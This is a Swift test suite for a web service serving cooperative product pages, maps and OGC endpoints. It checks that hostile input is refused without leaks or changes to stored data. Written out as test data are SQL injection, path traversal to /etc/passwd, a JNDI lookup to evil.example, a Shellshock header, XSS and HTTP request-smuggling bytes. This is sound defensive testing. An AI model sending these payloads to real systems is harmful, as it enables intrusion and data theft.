import Foundation
import HTTPTypes
import Publication
import TestSupport
import Testing
import Traceability

@testable import WebService

/// What strangers try on every address: it is answered without a fault of ours, shows nothing, and changes nothing.
@Suite struct AttackTests {
  /// Percent-encoded where a client would do so, and raw where it would not.
  static let attacks = [
    "'%20OR%20'1'='1", "1%3BDROP%20TABLE%20serial--", "%22%20UNION%20SELECT%20hash%20FROM%20serial--",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fpublic.gpkg", "....//....//etc/passwd", "%00",
    "a%00b",
    "%0d%0aX-Evil:%201", "%E2%80%AE", "$%7Bjndi:ldap://evil.example%7D", "%7B%7Bframe.title%7D%7D",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%c0%ae%c0%ae", "%F0%28%8C%28", "%", "%zz", "-1", "1e309", "NaN",
    "99999999999999999999", "%F0%9F%8D%91", "O%CC%82%CC%81", "%5C..%5C..%5Cwindows", "javascript:alert(1)",
    String(repeating: "A", count: 1_500),
  ]

  /// Every route with something in its path that a stranger can choose, with what is chosen as `*`.
  static let paths = [
    "/01/*", "/01/09521234543213/10/*", "/01/09521234543213/10/MTH-260612/21/*", "/01/09521234543213/21/*",
    "/p/*/man", "/p/mua-xuan/*", "/q/*", "/414/*", "/00/*", "/*", "/en/*", "/htx/*", "/htx/*/to-treo",
    "/thon/*",
    "/photo/*", "/photo/mua-xuan/*", "/assets/*", "/assets/leaflet/*", "/tiles/*/0/0.mvt", "/tiles/1/*/0.mvt",
    "/tiles/1/0/*.mvt", "/ogc/collections/*", "/ogc/collections/*/items", "/ogc/collections/villages/items/*",
    "/map/*", "/health/*", "/.well-known/*",
  ]

  static let queries = [
    "/tra-cuu?ma=*", "/phan-anh?trang=*", "/map/parcels.geojson?bbox=*", "/map/parcels.geojson?crop=*",
    "/map/parcels.kml?crop=*", "/map/found.geojson?q=*", "/01/09521234543213?linkType=*",
    "/01/09521234543213?lang=*",
    "/ogc?f=*", "/ogc/collections/villages/items?bbox=*",
    "/ogc/collections/villages/items?bbox=0,0,1,1&bbox-crs=*",
    "/ogc/collections/villages/items?crs=*", "/ogc/collections/villages/items?sortby=*",
    "/ogc/collections/villages/items?datetime=*", "/ogc/collections/villages/items?limit=*",
    "/ogc/collections/villages/items?offset=*", "/ogc/collections/villages/items?name=*",
    "/ogc/collections/parcels/items?crop=*", "/ogc/collections/villages/items?*=1", "/map?*=*",
  ]

  /// All that lies in the store, as SQLite writes it out.
  private func dump(_ fixture: SiteFixture) throws -> String {
    let text = try OpenServer.tool("sqlite3", ["-readonly", fixture.store.path, ".dump"])
    #expect(text.contains("INSERT INTO") && text.contains("growing_area"))
    return text
  }

  private func look(_ answer: Answer, _ address: String) {
    #expect(answer.status < 500, "\(address): \(answer.status)")
    for word in ["<script>alert(1)", "root:x", "SQLite", "near \"", "Swift."] {
      #expect(!answer.text.contains(word), "\(word) at \(address)")
    }
    #expect(answer.headers[HTTPField.Name("X-Evil")!] == nil, "\(address)")
    #expect(answer.headers[.location].map { $0.hasPrefix("/") && !$0.hasPrefix("//") } ?? true, "\(address)")
  }

  @Test func `an attack in a path or a parameter is refused or finds nothing, and the store stays as it was`()
    async throws
  {
    let fixture = try SiteFixture()
    let before = try dump(fixture)
    for attack in Self.attacks {
      for path in Self.paths {
        let address = path.replacing("*", with: attack)
        let answer = try await fixture.ask(address)
        look(answer, address)
        #expect((400..<500).contains(answer.status), "\(address): \(answer.status)")
      }
      for query in Self.queries {
        let address = query.replacing("*", with: attack)
        look(try await fixture.ask(address), address)
      }
    }
    #expect(try dump(fixture) == before)
    #expect(try fixture.remarks.remarks(isWaiting: false).isEmpty)
  }

  @Test(arguments: [
    (HTTPField.Name.accept, ";;q=,*/*;q=99999999999999999999"), (.acceptLanguage, "vi;q=NaN, en;q=-1, ;;,"),
    (.acceptEncoding, "gzip;q=1e999, *;q="), (.ifNoneMatch, "W/\"'; DROP TABLE serial; --\", *"),
    (.userAgent, "() { :; }; /bin/bash -c id"),
    (HTTPField.Name("X-Forwarded-For")!, "::ffff:999.1.1.1, <script>"),
    (HTTPField.Name("X-Original-URL")!, "/staff"), (.origin, "null"), (.range, "bytes=-1,0-,99999999999-"),
    (.cookie, "session=../../etc/passwd"), (.accept, String(repeating: "a/b,", count: 2_000)),
    (.contentType, "multipart/form-data; boundary="),
  ])
  func `an attack in a header changes no answer`(name: HTTPField.Name, value: String) async throws {
    let fixture = SiteFixture.sample
    for path in [
      ConsumerPageTests.scan, "/map", "/ogc", "/tiles/14/12939/7139.mvt", "/.well-known/gs1resolver",
    ] {
      let answer = try await fixture.ask(path, .get, [name: value])
      look(answer, "\(path) with \(name)")
      #expect([200, 304].contains(answer.status), "\(path) with \(name): \(answer.status)")
      #expect(answer.headers[.setCookie] == nil)
    }
  }

  /// Bytes that are no request, or two in one: the connection is refused and the next visitor is served.
  @Test func `what is no request of HTTP is refused, and cannot hide another one`() async throws {
    try await OpenServer.run(SiteFixture.sample.store) { base in
      let script = """
        import socket, sys
        from urllib.parse import urlparse
        place = urlparse(sys.argv[1])
        def send(data, seconds=3):
            client = socket.create_connection((place.hostname, place.port), 120)
            client.settimeout(seconds)
            client.sendall(data)
            got = b""
            try:
                while True:
                    part = client.recv(65536)
                    if not part: break
                    got += part
            except (socket.timeout, ConnectionResetError): pass
            return got
        bad = {
          "garbage": b"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\r\\n\\r\\n",
          "both lengths": b"POST /phan-anh HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /hidden HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
          "two lengths": b"POST /phan-anh HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nContent-Length: 40\\r\\n\\r\\nabcd",
          "no colon": b"GET / HTTP/1.1\\r\\nHost x\\r\\n\\r\\n",
          "folded": b"GET / HTTP/1.1\\r\\nHost: x\\r\\n evil: y\\r\\n\\r\\n",
          "space before colon": b"GET / HTTP/1.1\\r\\nHost : x\\r\\n\\r\\n",
          "large head": b"GET / HTTP/1.1\\r\\nHost: x\\r\\nX-A: " + b"a" * 40000 + b"\\r\\n\\r\\n",
          "many fields": b"GET / HTTP/1.1\\r\\nHost: x\\r\\n" + b"".join(b"X-%d: 1\\r\\n" % n for n in range(400)) + b"\\r\\n",
        }
        for name, data in bad.items():
            got = send(data)
            lines = [line for line in got.split(b"\\r\\n") if line.startswith(b"HTTP/1.")]
            if any(b" 2" in line[8:11] for line in lines): print(name, "was answered with", lines)
            if len(lines) > 1: print(name, "was taken for", len(lines), "requests")
        # Other tests keep the threads of this process busy: the answer may take its time.
        good = send(b"GET /health/live HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n", 300)
        if b" 200 " not in good: print("the next visitor was not served", good[:80])
        """
      let text = try OutsideProgram.run("/usr/bin/python3", ["-c", script, base])
      #expect(text.isEmpty, "\(text)")
    }
  }

  @Test func `a cooperative's own host name leads to its page, and no other name leads anywhere else`()
    async throws
  {
    var cooperative = SampleContent.cooperative
    cooperative.host = try HostName("man.bac-ha.example")
    let fixture = try SiteFixture(SampleContent.everything + [.cooperative(cooperative)])
    try await OpenServer.run(fixture.store) { base in
      func page(_ host: String, _ path: String = "/") throws -> String {
        try OpenServer.tool("curl", ["-s", "-H", "Host: \(host)", base + path])
      }
      let own = "<h1>\(SampleContent.cooperative.name)</h1>"
      #expect(try page("man.bac-ha.example").contains(own))
      #expect(try page("MAN.bac-ha.example:443", "/en").contains(own))
      #expect(try page("man.bac-ha.example", "/en").contains("<html lang=\"en\">"))
      for host in [
        "127.0.0.1", "evil.example", "man.bac-ha.example.evil.example", "' OR 1=1", "a b", "\u{1}",
      ] {
        let start = try page(host)
        #expect(!start.contains(own) && !start.contains("evil.example"), "\(host)")
      }
      // Labels lead to the same pages there.
      #expect(try page("man.bac-ha.example", ConsumerPageTests.scan).contains("MTH-260612"))
    }
  }
}
